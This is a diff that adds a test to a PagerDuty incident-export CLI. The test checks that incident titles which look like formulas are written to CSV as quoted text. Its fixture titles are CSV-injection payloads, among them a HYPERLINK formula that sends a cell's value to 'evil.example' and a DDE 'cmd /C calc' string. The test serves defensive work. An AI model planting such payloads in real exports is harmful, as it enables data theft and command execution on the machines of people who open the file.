@@ -185,3 +185,21 @@ def test_rows_match_each_page_with_its_own_first_acknowledgement():
     assert [(r.incident, r.to_acknowledge, r.acknowledged.actor, r.manual, r.in_hours) for r in rows] == [
         ("1", dt.timedelta(minutes=4), "ana", False, True), ("2", dt.timedelta(minutes=2), "ana", True, True)]
     assert page_rows(events, {}, Window(utc(2024, 3, 5, 3, 1), utc(2024, 3, 5, 4)))[0].incident == "2"
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(run_cli, monkeypatch, tmp_path):
+    """An incident's title is an alert's summary, anyone's to write: in the CSV
+    it is text, never a formula (a leading '); the JSON keeps it as it is."""
+    hostile = [{**incident, "title": title} for incident, title in zip(
+        PD_INCIDENTS, ['=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(1,1)*cmd|' /C calc'!A0",
+                       "-2+3", "+1"])]
+    monkeypatch.setenv("PD_TOKEN", PD_TOKEN)
+    with FakeServer(pagerduty_app(hostile, log_entries(), {ANA["id"]: ANA}, token=PD_TOKEN)) as pd:
+        args = ("pages", "--since", "2024-03-05", "--until", "2024-03-05", "--pagerduty", pd.url,
+                "--token-env", "PD_TOKEN")
+        code, out, _ = run_cli(*args, "--format", "csv")
+        rows = list(csv.DictReader(io.StringIO(out)))
+        assert code == 0 and [r["what"] for r in rows] == ["'" + i["title"] for i in hostile[:len(rows)]]
+        assert rows[0]["minutes_to_acknowledge"] == "6.7"
+        code, out, _ = run_cli(*args, "--format", "json")
+        assert [p["what"] for p in json.loads(out)["pages"]] == [i["title"] for i in hostile[:len(rows)]]
